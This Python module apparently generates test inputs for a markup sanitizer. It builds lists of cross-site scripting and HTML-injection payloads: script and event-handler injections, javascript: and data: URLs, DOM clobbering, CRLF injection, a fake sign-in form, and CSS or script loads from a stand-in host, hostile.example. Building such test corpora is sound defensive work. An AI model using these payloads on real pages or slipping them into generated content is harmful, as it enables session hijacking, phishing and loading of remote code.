"""Hostile markup: elements, handlers, addresses and styles that would run or load something. Each sets MARK or asks
HOST if it succeeds."""

import itertools

MARK = "window.careline_hostile=1"
HOST = "https://hostile.example"


def scripts() -> list[str]:
    tags = (
        f"<script>{MARK}</script>",
        f"<ScRiPt>{MARK}</sCrIpT >",
        f"<script src={HOST}/a.js></script>",
        f'<script type="module">{MARK}</script>',
        f"<script/x>{MARK}</script>",
        f"<svg><script>{MARK}</script></svg>",
    )
    breaks = ("{}", "\"'>{}", "</textarea>{}", "</title>{}", "</style>{}", "</script>{}", "-->{}", "]]>{}")
    return [frame.format(tag) for tag, frame in itertools.product(tags, breaks)]


def handlers() -> list[str]:
    openings = (
        "<img src=x onerror={}>",
        "<img src=x OnErRoR={}//",
        "<svg onload={}>",
        "<svg/onload={}>",
        "<body onload={}>",
        "<input autofocus onfocus={}>",
        "<details open ontoggle={}>",
        "<video onerror={}><source>",
        "<audio src=x onerror={}>",
        "<marquee onstart={}>",
        "<a onmouseover={}>here</a>",
        "<div onpointerenter={} style=position:fixed;inset:0>",
        "<style onload={}></style>",
        "<iframe onload={}>",
        "<object data=x onerror={}>",
        "<animate xmlns=http://www.w3.org/2000/svg onbegin={}>",
    )
    calls = (f'"{MARK}"', "alert(1)", f"eval(atob(`{'YWxlcnQoMSk='}`))")
    return [opening.replace("{}", call) for opening, call in itertools.product(openings, calls)]


def elements() -> list[str]:
    return [
        f"<img src={HOST}/a.png>",
        f"<img srcset='{HOST}/a.png 1x'>",
        f"<picture><source srcset={HOST}/a.png><img></picture>",
        f"<iframe src={HOST}></iframe>",
        f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
        f"<embed src={HOST}/a.swf>",
        f"<object data={HOST}/a.swf></object>",
        f"<link rel=stylesheet href={HOST}/a.css>",
        f"<link rel=preload as=image href={HOST}/a.png>",
        f"<meta http-equiv=refresh content='0;url={HOST}'>",
        f"<base href={HOST}/>",
        f"<form action={HOST}><button>Sign in again</button></form>",
        f"<button formaction=javascript:{MARK}>press</button>",
        f"<video poster={HOST}/a.png></video>",
        f"<svg><image href={HOST}/a.png /></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={MARK}/>#x'></use></svg>",
        f"<svg><a href=javascript:{MARK}><text y=9>press</text></a></svg>",
        f"<math href=javascript:{MARK}>press</math>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={MARK}&gt;'>",
        f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
        f"<template><script>{MARK}</script></template>",
        "<form id=attributes><input name=textContent><input name=append>",
        "<img name=querySelector><img name=getElementById>",
        f"<a id=location href={HOST}>x</a><a id=location name=href>y</a>",
        "<dialog open>Your password, please</dialog>",
        "<plaintext>",
        "<textarea>",
        "<!--",
        "<![CDATA[",
        "<care-line></care-line>",
    ]


def addresses() -> list[str]:
    bad = (
        f"javascript:{MARK}",
        f"JaVaScRiPt:{MARK}",
        f"java\tscript:{MARK}",
        f"\x01javascript:{MARK}",
        f"data:text/html,<script>{MARK}</script>",
        f"data:image/svg+xml,<svg onload={MARK}>",
        f"vbscript:{MARK}",
        "file:///etc/passwd",
        "blob:null/1",
        "//hostile.example/a",
        "https://careline@hostile.example/",
        f"{HOST}/%0d%0aSet-Cookie:a=b",
        f'{HOST}/"onmouseover="{MARK}',
        "https://hostile.example\\@127.0.0.1/",
        "http://xn--80ak6aa92e.com/",
        f"{HOST}/{'a' * 1200}",
        f"mailto:a@b.example?subject=x&body=<script>{MARK}</script>",
        "tel:+1234;ext=<b>",
    )
    frames = ("{}", "[press here]({})", "<{}>", "<a href='{}'>press</a>", "![picture]({})")
    return [frame.format(address) for address, frame in itertools.product(bad, frames)]


def markdown() -> list[str]:
    return [
        f'![a]({HOST}/a.png "title")',
        f"![a][b]\n\n[b]: {HOST}/a.png",
        f"[![a]({HOST}/a.png)]({HOST})",
        f"[a]({HOST} 'onmouseover={MARK}')",
        f"[a](<javascript:{MARK}>)",
        f"[a](&#106;avascript:{MARK})",
        f"```html\n<script>{MARK}</script>\n```",
        f"`<img src=x onerror={MARK}>`",
        f"**<img src=x onerror={MARK}>**",
        f"| a | b |\n|---|---|\n| <script>{MARK}</script> | ![x]({HOST}/x.png) |",
        f"> <script>{MARK}</script>",
        f"# <svg onload={MARK}>",
        f"- [ ] <img src=x onerror={MARK}>",
        f"<details><summary>more</summary>![x]({HOST}/x.png)</details>",
        "[" * 200 + "a" + "](b)" * 200,
        "*" * 500,
        f"$$\\href{{javascript:{MARK}}}{{press}}$$",
        f"~~~mermaid\ngraph TD; A-->B; click A 'javascript:{MARK}'\n~~~",
    ]


def styles() -> list[str]:
    return [
        f"</style><style>*{{background:url({HOST}/a.png)}}",
        f"<style>@import '{HOST}/a.css';</style>",
        f"<p style='background:url({HOST}/a.png)'>",
        "<p style=position:fixed;inset:0;z-index:9999;background:red>over everything</p>",
        f"expression({MARK})",
        f"url(javascript:{MARK})",
        f"red;background:url({HOST}/a.png)",
        f"}}*{{background:url({HOST}/b.png)}}",
        "var(--care-accent);display:none",
        f"<link rel=icon href={HOST}/i.ico>",
        f"@font-face{{font-family:x;src:url({HOST}/f.woff)}}",
        ":host{display:none}",
    ]
